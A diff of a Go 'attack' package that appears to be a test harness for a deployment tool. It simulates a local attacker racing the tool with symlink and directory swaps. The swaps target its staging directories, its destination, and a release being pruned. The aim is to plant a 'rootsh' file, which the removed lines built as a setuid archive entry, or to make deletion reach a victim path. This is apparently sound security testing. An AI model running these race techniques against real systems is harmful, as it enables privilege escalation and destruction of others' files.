@@ -1,100 +1,160 @@
 package attack
 
 import (
-	"archive/tar"
-	"bytes"
 	"fmt"
 	"io"
+	"io/fs"
+	"math/rand/v2"
 	"os"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"time"
 )
 
-// loot is what the stranger wants to be deployed.
-const loot = "rootsh"
+const (
+	// loot is what the stranger wants to be deployed.
+	loot = "rootsh"
+	// tempPrefix begins the names of staging directories.
+	tempPrefix = ".stretcher-"
+)
 
-// attack is the stranger's process. It goes on until its standard input ends,
-// and prints how often it has moved something.
+// attacker is the stranger's process.
+type attacker struct {
+	dest, victim string
+	late         bool     // he strikes once, at a moment that he does not choose
+	dirs         []string // where temporary directories may be
+	over         chan struct{}
+	moves        int // what he has put in the place of something else
+	tries        int // what he has seen and could not move
+}
+
+// attack is what that process does. It says when it has begun, goes on until
+// its standard input ends, and prints its moves and tries.
 func attack(kind string, args []string) {
-	dest, victim, dirs := args[0], args[1], args[2:]
-	done := make(chan struct{})
+	a := &attacker{dest: args[0], victim: args[1], late: args[2] == "late", dirs: args[3:], over: make(chan struct{})}
+	strike := map[string]func(){"temp": a.swapTemp, "dest": a.swapDest, "prune": a.swapInside}[kind]
+	switch kind {
+	case "temp":
+		strike() // at what is there already
+	case "prune":
+		a.moveIn()
+	}
+	fmt.Print("!")
 	go func() {
 		_, _ = io.Copy(io.Discard, os.Stdin)
-		close(done)
+		close(a.over)
 	}()
-	fmt.Print("!")
-	moves := 0
-	for {
-		select {
-		case <-done:
-			restore(dest)
-			fmt.Println(moves)
-			return
-		default:
-		}
-		switch kind {
-		case "temp":
-			moves += swapTemp(dirs, victim)
-			time.Sleep(200 * time.Microsecond)
-		case "dest":
-			moves += swapDest(dest, victim)
-		}
+	if a.late {
+		time.Sleep(rand.N(60 * time.Millisecond))
+		strike()
+		<-a.over
+	}
+	for !a.isOver() {
+		strike()
+	}
+	a.restore()
+	fmt.Println(a.moves, a.tries)
+}
+
+func (a *attacker) isOver() bool {
+	select {
+	case <-a.over:
+		return true
+	default:
+		return false
 	}
 }
 
-// swapTemp puts a directory of his own in the place of each temporary one:
-// with an archive in it, and with a tree that is a symlink.
-func swapTemp(dirs []string, victim string) (moves int) {
-	for _, dir := range dirs {
+// swapTemp puts a directory of his own in the place of each temporary one. Its
+// tree is his, or a symlink.
+func (a *attacker) swapTemp() {
+	for _, dir := range a.dirs {
 		entries, _ := os.ReadDir(dir)
 		for _, e := range entries {
-			if !strings.HasPrefix(e.Name(), ".stretcher-") || strings.HasSuffix(e.Name(), ".x") {
+			info, err := e.Info()
+			if err != nil || !strings.HasPrefix(e.Name(), tempPrefix) || strings.HasSuffix(e.Name(), ".x") ||
+				info.Sys().(*syscall.Stat_t).Uid == stranger {
 				continue
 			}
-			name := filepath.Join(dir, e.Name())
-			if os.Rename(name, name+".x") != nil || os.Mkdir(name, 0o755) != nil {
-				continue
-			}
-			moves++
-			for _, file := range []string{"archive", "archive.unverified"} {
-				_ = os.WriteFile(filepath.Join(name, file), evil(), 0o644)
-			}
-			_ = os.Symlink(victim, filepath.Join(name, "tree"))
+			a.takePlace(filepath.Join(dir, e.Name()))
 		}
 	}
-	return moves
+	time.Sleep(200 * time.Microsecond)
 }
 
-// evil is an archive that holds the loot, root's and setuid.
-func evil() []byte {
-	var b bytes.Buffer
-	tw := tar.NewWriter(&b)
-	_ = tw.WriteHeader(&tar.Header{Name: loot, Typeflag: tar.TypeReg, Mode: 0o4755, Size: 4})
-	_, _ = io.WriteString(tw, "evil")
-	_ = tw.Close()
-	return b.Bytes()
+// takePlace puts a directory in the place of another.
+func (a *attacker) takePlace(name string) {
+	err := os.Rename(name, name+".x")
+	if err == nil {
+		err = os.Mkdir(name, 0o755)
+	}
+	if err != nil {
+		a.tries++
+		return
+	}
+	a.moves++
+	tree := filepath.Join(name, "tree")
+	if rand.N(2) == 0 {
+		_ = os.Symlink(a.victim, tree)
+		return
+	}
+	_ = os.Mkdir(tree, 0o755)
+	_ = os.WriteFile(filepath.Join(tree, loot), []byte("evil"), 0o755)
 }
 
 // away is where dest is while a symlink has its place.
-func away(dest string) string { return dest + ".away" }
+func (a *attacker) away() string { return a.dest + ".away" }
 
 // swapDest puts a symlink in the place of dest for a moment.
-func swapDest(dest, victim string) (moves int) {
-	_ = os.Rename(dest, away(dest))
-	if os.Symlink(victim, dest) == nil {
-		moves++
+func (a *attacker) swapDest() {
+	_ = os.Rename(a.dest, a.away())
+	if os.Symlink(a.victim, a.dest) == nil {
+		a.moves++
 	}
-	time.Sleep(time.Duration(time.Now().UnixNano()%1500) * time.Microsecond)
-	restore(dest)
-	time.Sleep(time.Duration(time.Now().UnixNano()%700) * time.Microsecond)
-	return moves
+	time.Sleep(rand.N(1500 * time.Microsecond))
+	a.restore()
+	time.Sleep(rand.N(700 * time.Microsecond))
 }
 
 // restore gives dest its name back.
-func restore(dest string) {
-	if info, err := os.Lstat(dest); err == nil && info.Mode()&os.ModeSymlink != 0 {
-		_ = os.Remove(dest)
+func (a *attacker) restore() {
+	if info, err := os.Lstat(a.dest); err == nil && info.Mode()&fs.ModeSymlink != 0 {
+		_ = os.Remove(a.dest)
 	}
-	_ = os.Rename(away(dest), dest)
+	_ = os.Rename(a.away(), a.dest)
+}
+
+// moveIn makes a directory in the live release, whose files are his, with the
+// names that the victim has. He stays in that release, whatever it is called.
+func (a *attacker) moveIn() {
+	err := os.Chdir(filepath.Join(a.dest, "current"))
+	if err == nil {
+		err = os.MkdirAll("p/etc", 0o755)
+	}
+	for i := 0; err == nil && i < 2000; i++ { // removal shall take a while
+		err = os.WriteFile(fmt.Sprint("p/etc/", i), nil, 0o644)
+	}
+	for _, name := range []string{"p/etc/shadow", "p/index.html"} {
+		if err == nil {
+			err = os.WriteFile(name, nil, 0o644)
+		}
+	}
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "the stranger:", err)
+	}
+}
+
+// swapInside puts a symlink in the place of that directory for a moment. It is
+// a move when the release is being removed.
+func (a *attacker) swapInside() {
+	_ = os.Rename("p", "q")
+	err := os.Symlink(a.victim, "p")
+	if cwd, _ := os.Readlink("/proc/self/cwd"); err == nil && strings.Contains(cwd, "/.prune-") {
+		a.moves++
+	}
+	time.Sleep(rand.N(500 * time.Microsecond))
+	_ = os.Remove("p")
+	_ = os.Rename("q", "p")
+	time.Sleep(rand.N(500 * time.Microsecond))
 }
